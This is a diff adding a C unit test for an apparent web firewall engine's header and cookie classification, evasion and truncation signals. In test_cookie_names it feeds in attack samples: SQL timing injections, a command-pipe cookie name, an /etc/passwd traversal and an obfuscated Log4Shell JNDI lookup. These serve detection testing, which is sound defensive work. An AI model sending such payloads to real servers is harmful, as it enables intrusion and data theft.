@@ -1,0 +1,215 @@
+/* Request headers in the engine: which kind each header is read as
+ * (standard headers only by the file, command-execution and protocol
+ * families), the evasion signal for headers left out, a request-target
+ * the server cut (414), and cookie names read by the detectors. */
+#include <stdlib.h>
+#include <apr_strings.h>
+#include <apr_file_io.h>
+#include "lw_test_engine.h"
+
+static char tmpdir[256];
+
+static lw_engine_t *engine(apr_pool_t *p, const char *text, char **err)
+{
+    const char *path = apr_pstrcat(p, tmpdir, "/h.rules", NULL);
+    lw_ruleset_t *rs = lw_ruleset_create(p);
+    lw_engine_t *e = NULL;
+    void *blob;
+    apr_size_t len;
+    FILE *f = fopen(path, "w");
+
+    *err = NULL;
+    if (!f)
+        return NULL;
+    fputs(text, f);
+    fclose(f);
+    if (lw_ruleset_load(rs, path, err) != APR_SUCCESS
+        || lw_ruleset_compile(rs, p, &blob, &len, err) != APR_SUCCESS
+        || lw_engine_create(&e, blob, len, p, err) != APR_SUCCESS)
+        e = NULL;
+    apr_file_remove(path, p);
+    return e;
+}
+
+static const lw_hit_t *find_hit(const lw_result_t *res, apr_uint32_t id)
+{
+    int i;
+    for (i = 0; i < res->nhits; i++)
+        if (res->hits[i].rule_id == id)
+            return &res->hits[i];
+    return NULL;
+}
+
+static void one_header(const lw_engine_t *e, apr_pool_t *p, const char *name,
+                       const char *value, lw_result_t *res)
+{
+    lw_request_t req;
+    lw_header_t h;
+
+    memset(&req, 0, sizeof(req));
+    req.method = "GET";
+    req.uri = "/";
+    req.protocol = "HTTP/1.1";
+    h.name = name;
+    h.value = value;
+    req.headers = &h;
+    req.nheaders = 1;
+    lw_classify(e, &req, NULL, p, res);
+}
+
+#define R(id, cat, target, pat, m, nm) \
+    "rule " #id "\n category " cat "\n severity high\n msg rule " #id \
+    "\n target " target "\n literal evil\n pattern " pat "\n match " m \
+    "\n nomatch " nm "\n\n"
+
+static const char kind_rules[] =
+    R(1, "sqli", "headers", "evil", "X-Foo: evil", "X-Foo: good")
+    R(2, "xss", "headers", "evil", "X-Foo: evil", "X-Foo: good")
+    R(3, "lfi", "headers", "evil", "X-Foo: evil", "X-Foo: good")
+    R(4, "rce", "headers", "evil", "Accept: evil", "Accept: good")
+    R(5, "protocol", "headers", "evil", "Host: evil", "Host: good")
+    R(6, "scanner", "headers", "evil", "X-Foo: evil", "X-Foo: good")
+    R(7, "sqli", "user_agent", "evil", "User-Agent: evil", "X-Foo: evil");
+
+static void test_kinds(apr_pool_t *p)
+{
+    static const char *const std[] = {
+        "Accept", "accept-language", "Accept-Encoding", "If-None-Match",
+        "if-modified-since", "Sec-CH-UA", "sec-fetch-site", "Content-Type",
+        "Authorization", "Cache-Control", "Origin", "Host", "traceparent",
+        "Connection", "Range", "Priority", "TE"
+    };
+    static const char *const other[] = {
+        "X-Forwarded-For", "X-Accept", "Acceptx", "If-", "If", "Sec",
+        "Hostname", "X-Api-Version", "Forwarded", "Client-IP", "Te-X", "T"
+    };
+    char *err;
+    lw_engine_t *e = engine(p, kind_rules, &err);
+    lw_result_t res;
+    const lw_hit_t *hit;
+    size_t i;
+
+    CHECK(e != NULL);
+    if (!e) {
+        fprintf(stderr, "%s\n", err ? err : "?");
+        return;
+    }
+    for (i = 0; i < sizeof(std) / sizeof(std[0]); i++) {
+        one_header(e, p, std[i], "evil", &res);
+        /* the file, command and protocol families only */
+        CHECK(res.nhits == 3);
+        CHECK(find_hit(&res, 3) && find_hit(&res, 4) && find_hit(&res, 5));
+        hit = find_hit(&res, 3);
+        if (hit)
+            CHECK_STR(hit->field, apr_pstrcat(p, "header:", std[i], NULL));
+    }
+    for (i = 0; i < sizeof(other) / sizeof(other[0]); i++) {
+        one_header(e, p, other[i], "evil", &res);
+        CHECK(res.nhits == 6);
+        if (res.nhits != 6)
+            fprintf(stderr, "  %s: %d hits\n", other[i], res.nhits);
+        hit = find_hit(&res, 1);
+        if (hit)
+            CHECK_STR(hit->field, apr_pstrcat(p, "header:", other[i], NULL));
+    }
+    one_header(e, p, "user-agent", "evil", &res);
+    CHECK(res.nhits == 1 && find_hit(&res, 7));
+}
+
+static void test_left_out_and_cut(apr_pool_t *p)
+{
+    char *err;
+    lw_engine_t *e = engine(p, kind_rules, &err);
+    lw_request_t req;
+    lw_header_t h = { "X-Pad", "fine" };
+    lw_result_t res;
+    const lw_hit_t *hit;
+
+    CHECK(e != NULL);
+    if (!e)
+        return;
+    memset(&req, 0, sizeof(req));
+    req.method = "GET";
+    req.uri = "/search?q=aaaa";
+    req.headers = &h;
+    req.nheaders = 1;
+    CHECK(lw_classify(e, &req, NULL, p, &res) == 0 && res.nhits == 0);
+
+    /* headers left out: the evasion signal, flagged whatever the score */
+    req.headers_left_out = 3;
+    CHECK(lw_classify(e, &req, NULL, p, &res) == 1);
+    hit = find_hit(&res, LW_EVASION_RULE_ID);
+    CHECK(hit != NULL && res.truncated);
+    if (hit)
+        CHECK_STR(hit->field, "headers");
+
+    /* a request-target the server cut: medium, protocol, field uri */
+    req.headers_left_out = 0;
+    req.target_cut = 1;
+    CHECK(lw_classify(e, &req, NULL, p, &res) == 1);
+    CHECK(res.nhits == 1 && res.score == 3 && res.severity == LW_SEV_MEDIUM);
+    CHECK(res.categories == 1u << LW_CAT_PROTOCOL);
+    hit = find_hit(&res, LW_CUT_RULE_ID);
+    CHECK(hit != NULL);
+    if (hit)
+        CHECK_STR(hit->field, "uri");
+    /* excluded like any rule */
+    {
+        apr_uint32_t id = LW_CUT_RULE_ID;
+        CHECK(lw_result_exclude(&res, &id, 1, 0, 3) == 0 && res.nhits == 0);
+    }
+
+    /* the id is the engine's own */
+    CHECK(engine(p, "rule 800001\n category protocol\n severity low\n"
+                 " msg x\n target uri\n pattern x\n match /x\n nomatch /y\n",
+                 &err) == NULL);
+    CHECK(err != NULL && strstr(err, "engine's own") != NULL);
+}
+
+static void test_cookie_names(apr_pool_t *p)
+{
+    lw_engine_t *e = lw_test_shipped_engine(p);
+    lw_result_t res;
+    const lw_hit_t *hit;
+
+    CHECK(e != NULL);
+    if (!e)
+        return;
+    one_header(e, p, "Cookie", "sid=1; benchmark(10000000,md5(1))=1", &res);
+    hit = find_hit(&res, 100900);
+    CHECK(hit != NULL);
+    if (hit)
+        CHECK_STR(hit->field, "cookie_names");
+    one_header(e, p, "Cookie", "a=1; x|id=2", &res);
+    hit = find_hit(&res, 500900);
+    CHECK(hit != NULL);
+    if (hit)
+        CHECK_STR(hit->field, "cookie_names");
+    one_header(e, p, "Cookie", "__Host-next-auth.csrf-token=a%7Cb; "
+               "_ga_R2D2C3PO42=GS1.1.1; wp-settings-time-1=1733540400; "
+               "AMCV_97F1%40AdobeOrg=1; JSESSIONID=node0a.node0", &res);
+    CHECK(res.nhits == 0);
+    /* standard headers: no SQL or XSS reading of a grammar's punctuation,
+     * yet traversal and JNDI anywhere */
+    one_header(e, p, "Accept", "text/html,application/xhtml+xml,application/"
+               "xml;q=0.9,*/*;q=0.8", &res);
+    CHECK(res.nhits == 0);
+    one_header(e, p, "Accept", "../../../../etc/passwd", &res);
+    CHECK(find_hit(&res, 300120) != NULL);
+    one_header(e, p, "If-None-Match", "${${::-j}ndi:ldap://x/a}", &res);
+    CHECK(find_hit(&res, 500110) != NULL);
+    one_header(e, p, "X-Forwarded-For", "1' AND SLEEP(5)-- -", &res);
+    CHECK(find_hit(&res, 100900) == NULL && find_hit(&res, 100910) != NULL);
+}
+
+int main(void)
+{
+    LW_TEST_BEGIN(p);
+    snprintf(tmpdir, sizeof(tmpdir), "/tmp/lw_test_headers.XXXXXX");
+    CHECK(mkdtemp(tmpdir) != NULL);
+    test_kinds(p);
+    test_left_out_and_cut(p);
+    test_cookie_names(p);
+    apr_dir_remove(tmpdir, p);
+    LW_TEST_END();
+}
